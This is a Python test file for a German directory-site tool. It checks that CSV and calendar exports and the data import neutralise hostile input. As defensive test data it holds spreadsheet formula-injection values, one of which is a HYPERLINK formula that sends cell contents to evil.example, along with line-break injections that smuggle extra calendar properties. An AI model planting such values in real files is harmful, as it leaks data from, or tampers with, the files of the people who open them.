"""Hostile input, round two: what other programs make of our outputs, and the paths around
the checks. Spreadsheets read back with ``csv``, calendars with ``icalendar``, the strict
quiet build as a subprocess, the import fed what a spreadsheet or another system can hold."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import shutil
from pathlib import Path

import icalendar
import pytest
from helpers import FIXTURES, REPO, copy_fixture_site, mkdocs_build, wegweiser
from wegweiser.core.lists import load_lists
from wegweiser.core.model import Directory, Entry
from wegweiser.exports import ical, table
from wegweiser.exports.base import ExportSettings

FORMULA = ("=", "+", "-", "@", "\t", "\r", "\n")
HOSTILE = FIXTURES / "hostile"
EVENT_PROPERTIES = {"UID", "DTSTAMP", "DTSTART", "DTEND", "RRULE", "SUMMARY", "LOCATION"}
EVENT_PROPERTIES |= {"DESCRIPTION", "URL"}


def cells(text: str, delimiter: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff")), delimiter=delimiter))


def assert_no_formula(rows: list[dict[str, str]]) -> None:
    for number, row in enumerate(rows, start=2):
        for column, value in row.items():
            assert not value.startswith(FORMULA), (number, column, value)


@pytest.fixture(scope="module")
def built(tmp_path_factory) -> Path:
    """The fixture site with the corpus case whose cells a spreadsheet would compute."""
    base = tmp_path_factory.mktemp("outputs")
    src = copy_fixture_site(base / "src")
    (src / "entries" / "hostile").mkdir()
    shutil.copy(HOSTILE / "formula-phone-summary.yml", src / "entries" / "hostile")
    result = mkdocs_build(src, base / "out")
    assert result.returncode == 0, result.stderr
    return base / "out"


def test_exported_tables_hold_no_cell_a_spreadsheet_would_compute(built):
    for name, delimiter in (("orte.csv", ","), ("orte-excel.csv", ";")):
        rows = cells((built / "daten" / name).read_text("utf-8"), delimiter)
        assert_no_formula(rows)
        (row,) = [r for r in rows if r["name"] == "Feind Tabelle Telefon"]
        assert row["phone"] == "'+49 2431 85-0"
        assert row["summary"].startswith("'-50 % für Familien")
        assert row["description"] == "'=1+1 ist kein Rechenauftrag, sondern Text."


def test_the_table_is_safe_even_for_entries_that_never_passed_the_check():
    """Defence in depth: the export neutralises whatever it is given."""
    lists, _ = load_lists(REPO / "entries", REPO, ())
    hostile = {
        "name": '=HYPERLINK("http://evil.example/?d="&A1,"Klick")',
        "category": "beratungsstelle",
        "summary": "@SUM(1+1)",
        "address": {"street": "\tStraße", "city": "Leer"},
        "verified": {"date": "2026-01-01", "by": "\rRedaktion"},
        "phone": "+49 491 1",
        "opening_hours": "-Mo",
    }
    entry = Entry("x", "entries/leer/x.yml", hostile, None, dt.date(2026, 1, 1))
    directory = Directory.build([entry], lists)
    for excel in (False, True):
        text = table.csv_text(directory, ExportSettings(), excel=excel)
        assert_no_formula(cells(text, ";" if excel else ","))


def test_calendars_hold_exactly_the_events_and_properties_entries_define(built):
    calendars = sorted((built / "daten").rglob("*.ics"))
    assert calendars
    for path in calendars:
        calendar = icalendar.Calendar.from_ical(path.read_bytes())
        events = list(calendar.walk("VEVENT"))
        assert events, path
        for event in events:
            assert set(event.keys()) == EVENT_PROPERTIES, path


def test_a_line_break_that_reached_the_calendar_stays_inside_its_property():
    """Even an entry that never passed the check gives one event and no extra property."""
    meetings = {"repeat": "monthly", "day": "We", "week": "1", "time": "14:00-16:00"}
    meetings |= {"first": "2026-02-04", "place": "Raum\nLOCATION:anderswo"}
    meetings["note"] = "Gäste\r\nATTENDEE:mailto:x@evil.example"
    data = {"name": "Treffen\nX-EVIL:1", "summary": "Zusammenfassung\nBEGIN:VEVENT"}
    data |= {"address": {"city": "Leer"}, "verified": {"date": "2026-01-01", "by": "R"}}
    entry = Entry(
        "x", "entries/leer/x.yml", data | {"meetings": meetings}, None, dt.date(2026, 1, 1)
    )
    text = ical.calendar_bytes([entry], ExportSettings(), "Treffen\nX-EVIL:1")
    calendar = icalendar.Calendar.from_ical(text)
    (event,) = calendar.walk("VEVENT")
    assert set(event.keys()) == EVENT_PROPERTIES
    assert "X-EVIL" not in calendar and "ATTENDEE" not in event
    assert str(event["summary"]) == "Treffen X-EVIL:1"
    assert str(calendar["x-wr-calname"]) == "Treffen X-EVIL:1"


def test_a_strict_quiet_build_fails_on_a_broken_entry(site_copy, tmp_path):
    """`-q` hides warnings; strict mode must still see the broken entry and fail."""
    broken = site_copy / "entries" / "leer" / "kaputt.yml"
    broken.write_text((HOSTILE / "formula-name.yml").read_text("utf-8"), "utf-8")
    result = mkdocs_build(site_copy, tmp_path / "out", extra_args=["-q"])
    assert result.returncode == 1
    assert "entries/leer/kaputt.yml:2:7: error: name beginnt mit =" in result.stderr
    assert "Traceback" not in result.stderr


# -- the import -----------------------------------------------------------------------------


@pytest.fixture
def project(tmp_path) -> Path:
    shutil.copytree(REPO / "entries" / "_lists", tmp_path / "entries" / "_lists")
    return tmp_path


def sheet(folder: Path, rows: list[dict[str, str]], name: str = "liste.csv") -> Path:
    columns = ["name", "category", "summary", "city", "verified_date", "verified_by", "slug"]
    columns += ["phone"]
    buffer = io.StringIO()
    writer = csv.DictWriter(buffer, fieldnames=columns, lineterminator="\n")
    writer.writeheader()
    for row in rows:
        writer.writerow({key: row.get(key, "") for key in columns})
    path = folder / name
    path.write_text(buffer.getvalue(), "utf-8")
    return path


GOOD = {
    "category": "beratungsstelle",
    "summary": "Beratung für Familien in der Stadt Leer.",
    "city": "Leer",
    "verified_date": "2026-01-05",
    "verified_by": "Redaktion",
}


def test_import_refuses_what_check_refuses_row_by_row(project):
    rows = [
        GOOD | {"name": "Gute Beratung"},
        GOOD | {"name": '=HYPERLINK("http://evil.example","x")'},
        GOOD | {"name": "Neue Zeile", "slug": "hsds\nnl"},
        GOOD | {"name": "Geraet", "slug": "con"},
        GOOD | {"name": "Riesig", "summary": "x" * 200_000},
        GOOD | {"name": "Telefon", "phone": "'+49 491 12345"},  # as our own export writes it
    ]
    run = wegweiser("import", sheet(project, rows), "--root", project)
    assert "Traceback" not in run.stderr, run.stderr
    assert run.returncode == 1
    out = run.stdout + run.stderr
    assert "liste.csv:3:1: error: Zeile 3" in out and "beginnt mit =" in out
    assert "liste.csv:4:1: error: Zeile 4" in out and '"hsds<U+000A>nl.yml"' in out
    assert "liste.csv:5:1: error: Zeile 5" in out and "con.yml" in out
    assert "liste.csv:6:1: error:" in out
    written = sorted(p.name for p in (project / "entries").rglob("*.yml") if "_lists" not in str(p))
    assert written == ["gute-beratung.yml", "telefon.yml"]
    phone = (project / "entries" / "leer" / "telefon.yml").read_text("utf-8")
    assert "phone: +49 491 12345" in phone or "phone: '+49 491 12345'" in phone


@pytest.mark.parametrize(
    ("content", "expected"),
    [
        ('{"contents": ' + "[" * 50_000 + "]" * 50_000 + "}", "hsds.json:1:1: error:"),
        (
            json.dumps({"contents": [{"name": ["a", "b"], "organization": {"uri": 7}}]}),
            "hsds.json:1:1: error: Zeile 1 abgelehnt",
        ),
        (
            json.dumps(
                {"contents": [{"name": "Neu", "organization": {"uri": "/orte/hsds-nl\n/"}}]}
            ),
            'Dateiname "hsds-nl<U+000A>.yml" ist nicht erlaubt',
        ),
        (json.dumps({"contents": [[], "x", None]}), "Datensatz 3"),
    ],
)
def test_import_of_strange_hsds_gives_messages_not_tracebacks(project, content, expected):
    path = project / "hsds.json"
    path.write_text(content, "utf-8")
    run = wegweiser("import", path, "--root", project)
    assert "Traceback" not in run.stderr, run.stderr[-2000:]
    assert run.returncode != 0
    assert expected in run.stdout + run.stderr
